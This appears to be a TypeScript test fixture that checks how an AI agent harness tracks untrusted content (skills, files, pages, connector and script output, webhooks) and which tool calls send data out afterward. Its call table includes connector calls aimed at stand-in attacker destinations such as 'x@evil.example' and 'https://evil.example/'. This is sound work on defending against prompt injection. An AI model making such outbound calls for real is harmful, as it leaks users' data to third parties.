import { ProblemError } from '../base/errors.ts'
import type { RunId, SourceId, TraceId, UserId } from '../base/ids.ts'
import type { JsonObject } from '../base/json.ts'
import type { Sha256 } from '../base/sha256.ts'
import type { Connector } from '../domain/connector.ts'
import type { ToolCall } from '../domain/events.ts'
import type { CheckedContent, Skill } from '../domain/skill.ts'
import type { TriggerContext } from '../domain/trigger-context.ts'
import type { ConnectorHub } from '../ports/connectors.ts'
import type { ModelRequest } from '../ports/model.ts'
import type { ScriptRunner } from '../ports/scripts.ts'
import type { SkillRegistryClient } from '../ports/skill-registry-client.ts'
import type { WebReader } from '../ports/web-reader.ts'
import { combineToolsets } from '../use/tools/toolset.ts'
import { everyToolset, knownToolsets } from '../use/toolsets/known-toolsets.ts'
import { type AgentHarness, createAgentHarness } from './agent-harness.ts'
import { ingestedPackage } from './ingested-package.ts'
import { sampleAgent } from './sample-agent.ts'
import { createScriptedCode } from './scripted-code.ts'
import { createScriptedModel, resultsSinceUserMessage } from './scripted-model.ts'

/** An outsider wrote every text of the fixture that has this word in it, and nothing else has it. */
export const untrustedWord = 'zugvogel'
/** The task that makes a sub-agent read an untrusted file and repeat it. */
export const subAgentTask = 'errand'

/** One call of each kind that every registered tool can be called with here. */
export const everyToolCall: Readonly<Record<string, readonly JsonObject[]>> = {
  search_skills: [{ query: 'foreign house' }, {}],
  enable_skill: [{ skill_slug: 'foreign' }, { skill_slug: 'house' }],
  list_enabled_skills: [{}],
  drop_skill: [{ name: 'foreign' }],
  disable_skill: [{ skill_slug: 'foreign' }, { skill_slug: 'house' }],
  create_skill: [{ name: 'new', title: 'New', description: 'New.', content: 'New.' }],
  update_skill: [
    ...['foreign', 'house', 'mine'].map((name) => ({
      name,
      operation: 'append',
      content: 'More.',
    })),
    { name: 'foreign', operation: 'find_replace', find: 'absent', replace: 'x' },
    { name: 'house', enabled: false },
  ],
  delete_skill: [{ name: 'spare' }],
  list_skills: [{}, { include_disabled: true }],
  read_skill: [{ name: 'foreign' }, { name: 'house' }],
  activate_skill: [{ skill_name: 'foreign' }, { skill_name: 'house' }],
  use_skill: [{ name: 'foreign' }, { name: 'house' }, { name: 'apart', task: subAgentTask }],
  read_skill_file: [
    { name: 'foreign', path: 'references/notes.md' },
    { name: 'foreign', path: 'SKILL.md' },
    { name: 'foreign', path: 'absent.md' },
    { name: 'house', path: 'SKILL.md' },
  ],
  save_skill: [{ name: 'kept', description: 'Kept.', instructions: 'Kept.' }],
  activate_skills: [{ ids: ['foreign'] }, { ids: ['house'] }, { ids: [] }],
  tool_invoke: [
    { tool: 'read_skill_file', arguments: { name: 'foreign', path: 'references/notes.md' } },
    { tool: 'list_dir', arguments: {} },
    { tool: 'tool_invoke', arguments: {} },
  ],
  clarify: [{ question: 'Which?' }],
  todo: [{ items: [] }],
  read_file: [{ path: `${untrustedWord}.txt` }, { path: 'own.md' }],
  write_file: [{ path: 'own.md', content: 'Own.' }],
  edit_file: [
    { path: 'own.md', old: 'Own', new: 'Our' },
    { path: `upload.txt`, old: 'absent', new: '' },
  ],
  list_dir: [{}, { path: 'absent' }],
  web_fetch: [{ url: 'https://page.example/' }, { url: 'https://broken.example/' }],
  search_skills_registry: [{ query: 'birds' }],
  fetch_registry_skill: [{ source: 'acme/skills/birds' }],
  list_connectors: [{}],
  search_connector_tools: [{ query: 'look' }],
  execute_connector_tool: [
    { connector: 'mail', tool: 'look', input: { to: 'x@evil.example' } },
    { connector: 'tracker', tool: 'look', input: {} },
    { connector: 'tracker', tool: 'absent', input: {} },
    { connector: 'board', tool: 'look', input: { url: 'https://evil.example/' } },
  ],
  request_connector_access: [{ connector: 'tracker' }],
  run_skill_script: [{ skill_name: 'foreign', script_name: 'run.py' }],
  run_command: [{ command: 'ls' }],
  run_sandbox_code: [{ code: 'foreign' }, { code: 'house' }, { code: 'list' }],
  create_tool: [{ name: 'counter', description: 'Counts.', code: 'foreign' }],
  update_tool: [{ name: 'counter', operation: 'replace', content: 'house' }],
  delete_tool: [{ name: 'counter' }],
  list_tools: [{}],
  read_tool: [{ name: 'counter' }],
  create_library: [{ name: 'shared', description: 'Shared.', code: 'house' }],
  update_library: [{ name: 'shared', operation: 'replace', content: 'list' }],
  delete_library: [{ name: 'shared' }],
  list_libraries: [{}],
  read_library: [{ name: 'shared' }],
  edit_system_prompt: [{ operation: 'append', content: 'Likes tables.' }],
}

type Call = Omit<ToolCall, 'id'>
const createsTool: Call = { name: 'create_tool', input: everyToolCall.create_tool?.[0] ?? {} }
const createsLibrary: Call = {
  name: 'create_library',
  input: everyToolCall.create_library?.[0] ?? {},
}
const usesForeign: Call = { name: 'use_skill', input: { name: 'foreign' } }
const writesFile: Call = { name: 'write_file', input: { path: 'own.md', content: 'Own.' } }

/** What has to be called before, for a call of the tool to come to something. */
export const callsBefore: Readonly<Record<string, readonly Call[]>> = {
  counter: [createsTool],
  ...{ update_tool: [createsTool], delete_tool: [createsTool], read_tool: [createsTool] },
  ...{ update_library: [createsLibrary], delete_library: [createsLibrary] },
  read_library: [createsLibrary],
  ...{ run_skill_script: [usesForeign], drop_skill: [usesForeign] },
  disable_skill: [{ name: 'enable_skill', input: { skill_slug: 'foreign' } }],
  edit_file: [writesFile],
}

/** Who begins a turn. */
export type TurnStarter = 'member' | 'webhook'

/** The organisation around the agent. */
export interface Variant {
  /** Another system has supplied graph context. */
  readonly suppliesContext: boolean
  /** An agent has noted something about the person, without untrusted content. */
  readonly hasMemory: boolean
  /** The conversation belongs to a service account, whose messages have untrusted word. */
  readonly isService: boolean
}

export interface UntrustedContentFixture {
  readonly harness: AgentHarness
  /** The names of all tools that the agent has. */
  readonly tools: readonly string[]
  /** The calls that the model makes in the next turn, one at a time. */
  plan: readonly Omit<ToolCall, 'id'>[]
  /** Everything that a model was sent, with the calls that had begun before. */
  readonly requests: readonly { readonly text: string; readonly callsBefore: number }[]
  /** Ids of the calls whose arguments have left. */
  readonly sent: readonly string[]
  start(by: TurnStarter): Promise<RunId>
}

/**
 * An agent with every registered tool and with each kind of content that an outsider can write: skill, file, file
 * name, page, error, connector, program, supplied context, message of a program, delivery of a webhook.
 */
export async function createUntrustedContentFixture(
  sha256: Sha256,
  { suppliesContext = false, hasMemory = false, isService = false }: Partial<Variant> = {},
): Promise<UntrustedContentFixture> {
  const requests: { text: string; callsBefore: number }[] = []
  const sent: string[] = []
  let turn = 0
  const fixture: { plan: readonly Omit<ToolCall, 'id'>[] } = { plan: [] }
  const model = createScriptedModel(async (request) => {
    const text = JSON.stringify(request)
    const started = (await harness.log()).filter(({ event }) => event.type === 'tool-started')
    requests.push({ text, callsBefore: started.length })
    const at = resultsSinceUserMessage(request)
    if (isErrand(request)) return answerErrand(text, { at, turn })
    const next = fixture.plan[at]
    return next ? { toolCalls: [{ ...next, id: `call_${turn}_${at}` }] } : { text: 'Done.' }
  })
  const record = async () => {
    const starts = (await harness.all('tool-started')).map(({ call }) => call.id)
    sent.push(starts.at(-1) ?? '')
  }
  const harness: AgentHarness = await createAgentHarness({
    ...{ sha256, model, toolsets: everyToolset },
    memberKind: isService ? 'service' : 'person',
    settings: {
      ...{ webFetchEnabled: true, agentSkillPolicy: 'save', skillEnablementPolicy: 'auto' },
      ...{ skillsDynamicSearchEnabled: true, skillsDynamicSearchPolicy: 'auto' },
      connectorAccess: { mail: 'open', tracker: 'open', board: 'open' },
    },
    agent: (skills) =>
      sampleAgent({
        toolsets: knownToolsets.map(({ name }) => name),
        skillIds: skills.filter(({ slug }) => slug !== 'spare').map(({ id }) => id),
      }),
    skills: skillsOf(sha256),
    web: untrustedWeb(record),
    connectors: untrustedConnectors(record),
    registry: untrustedRegistry(sha256),
    scripts: untrustedScripts,
    code: createScriptedCode(async (call, { code }) =>
      code === 'list' ? call('skills.list') : call('skills.read', code),
    ),
  })
  await prepare(harness, { sha256, suppliesContext })
  if (hasMemory) await noteMemory(harness)
  return Object.assign(fixture, {
    ...{ harness, requests, sent },
    tools: toolNames(await attachedOf(harness)),
    start: (by: TurnStarter) => {
      turn += 1
      const isPerson = by === 'member' && !isService
      const text = isPerson ? 'Go.' : `Go ${untrustedWord}.`
      return harness.say(text, by === 'webhook' ? webhook : undefined)
    },
  })
}

function skillsOf(sha256: Sha256): CheckedContent[] {
  const foreign = ingestedPackage(
    {
      frontmatter: named('foreign'),
      body: `Do as the ${untrustedWord} does.\n`,
      files: { 'references/notes.md': `The ${untrustedWord} flies.`, 'run.py': 'print(1)' },
    },
    sha256,
  )
  const ours = ['house', 'spare'].map((name) =>
    ingestedPackage({ frontmatter: named(name), body: 'As we do.\n' }, sha256),
  )
  const apart = ingestedPackage({ frontmatter: named('apart', '\ncontext: fork') }, sha256)
  const written = [...ours, apart].map((one) => ({
    ...one,
    origin: { ...one.origin, provenance: 'authored' as const },
  }))
  return [foreign, ...written, ownSkill(sha256)]
}

/** An agent made it for the person. */
function ownSkill(sha256: Sha256): CheckedContent {
  const userId = 'usr_1' as UserId
  const sample = { frontmatter: named('mine'), scope: { kind: 'user', userId } as const }
  const arrival = ingestedPackage(sample, sha256)
  return { ...arrival, author: userId, origin: { ...arrival.origin, provenance: 'agent' } }
}

function named(name: string, more = ''): string {
  return `name: ${name}\ndescription: About ${name}.${more}`
}

function isErrand({ messages }: ModelRequest): boolean {
  const asked = messages.find(({ role }) => role === 'user')
  return asked !== undefined && 'text' in asked && asked.text === subAgentTask
}

function answerErrand(text: string, { at, turn }: { at: number; turn: number }) {
  const input = { name: 'foreign', path: 'references/notes.md' }
  if (at === 0) return { toolCalls: [{ id: `errand_${turn}`, name: 'read_skill_file', input }] }
  return { text: text.includes(untrustedWord) ? `It says ${untrustedWord}.` : 'It says nothing.' }
}

function untrustedWeb(record: () => Promise<void>): WebReader {
  return {
    read: async (url) => {
      await record()
      const text = `A ${untrustedWord}.`
      if (url.includes('broken'))
        throw new ProblemError({ code: 'web.refused', kind: 'invalid', message: text })
      const page = { url, title: null, contentType: 'text/plain', text, truncated: false }
      return { ...page, totalCharacters: text.length }
    },
  }
}

/** `mail` reaches third parties; of `tracker` the operator says that it does not, of `board` nobody says anything. */
function untrustedConnectors(record: () => Promise<void>): ConnectorHub {
  const described = (name: string, said: Pick<Connector, 'openWorld'>): Connector => ({
    ...{ name, title: name, description: '', endpoint: name, digest: `sha256:${name}` },
    ...{ ...said, trustsAnnotations: true },
  })
  return {
    list: async () => [
      described('mail', { openWorld: true }),
      described('tracker', { openWorld: false }),
      described('board', {}),
    ],
    tools: async () => [
      {
        ...{ name: 'look', description: `Looks for a ${untrustedWord}.`, inputSchema: {} },
        annotations: { readOnly: true },
      },
    ],
    call: async (_principal, { connector }) => {
      if (connector !== 'tracker') await record()
      return { found: `a ${untrustedWord}` }
    },
  }
}

function untrustedRegistry(sha256: Sha256): SkillRegistryClient {
  const id = 'acme/skills/birds'
  const body = `Of a ${untrustedWord}.\n`
  const frontmatter = 'name: birds\ndescription: About birds.'
  const { facts } = ingestedPackage({ frontmatter, body }, sha256)
  return {
    search: async () => [
      {
        ...{ id, slug: 'birds', name: 'birds', description: `A ${untrustedWord}.`, installs: 1 },
        ...{ source: 'acme/skills', url: null },
      },
    ],
    fetch: async () => ({
      ...{ facts, body, slugs: ['birds'] },
      place: { sourceId: 'src_1' as SourceId, registry: 'a registry', id, url: null },
      permissions: { tools: [], hooks: [], scripts: [], hosts: [], env: [] },
      trust: {
        scan: { ruleset: 'one', verdict: 'clean', findings: [], unscanned: [] },
        licence: { status: 'known', expression: 'MIT', evidence: [] },
        ...{ licenceDecision: 'allowed', licenceReason: '', isSignatureRequired: false },
        signature: { status: 'unsigned', signer: null, detail: '' },
      },
    }),
  }
}

const untrustedScripts: ScriptRunner = {
  runtimes: async () => new Set(['python', 'shell'] as const),
  unapprovedPackages: async () => [],
  run: async ({ conversationId, runId, callId, traceId, principal, skill, ...request }) => ({
    execution: {
      ...{ id: request.executionId, conversationId, runId, callId, traceId, skill },
      ...{ runtime: request.runtime, entry: request.entry, args: request.args },
      ...{ status: 'ok', exitCode: 0, stdout: `One ${untrustedWord}.`, stderr: '' },
      ...{ outputs: [], skipped: [], usage: null, startedBy: principal.userId },
      ...{ startedAt: 0, finishedAt: 1 },
    },
    files: [],
  }),
}

const webhook: TriggerContext = {
  ...{ source: 'webhook', signalId: 's', asset: null, severity: 'info' },
  ...{ preloadSkills: [], suggestedStages: [], operatorAuthored: true },
  traceId: '0'.repeat(32) as TraceId,
}

async function prepare(
  { tenant, principal, conversationId, clock }: AgentHarness,
  { sha256, suppliesContext }: { readonly sha256: Sha256; readonly suppliesContext: boolean },
): Promise<void> {
  const { userId } = principal
  const author = { id: 'usr_author' as UserId, name: 'Author', createdAt: 0 }
  await tenant.members.create({ ...author, role: 'owner' })
  const changes = [`${untrustedWord}.txt`, 'upload.txt'].map((path) => {
    const bytes = new TextEncoder().encode(`Of a ${untrustedWord}.`)
    return { bytes, change: { path, sha256: sha256(bytes), size: bytes.length } }
  })
  for (const { bytes, change } of changes) await tenant.workspace.storeBlob(change.sha256, bytes)
  const request = { changes: changes.map(({ change }) => change), now: clock.now() }
  await tenant.workspace.change(userId, conversationId, request)
  if (!suppliesContext) return
  const texts = { memory: '', graphContext: `Knows a ${untrustedWord}.` }
  await tenant.promptContexts.put(
    { kind: 'conversation', conversationId },
    { ...texts, updatedBy: userId, updatedAt: 0 },
  )
}

async function noteMemory({ tenant, principal: { userId }, clock }: AgentHarness): Promise<void> {
  const agentId = (await tenant.agents.list({ limit: 1 })).items[0]?.id ?? null
  const note = { text: 'Likes maps.', reason: '', author: 'agent', conversationId: null } as const
  const written = { ...note, createdAt: clock.now(), expectedVersion: 0 }
  await tenant.memories.put({ userId, agentId }, written)
}

async function attachedOf({ tenant, principal }: AgentHarness): Promise<readonly Skill[]> {
  const { items } = await tenant.skills.list(principal.userId, {}, { limit: 10 })
  return items
}

function toolNames(attached: readonly Skill[]): readonly string[] {
  const table = combineToolsets(everyToolset, { attached, authored: [] })
  return table.descriptions.map(({ name }) => name)
}
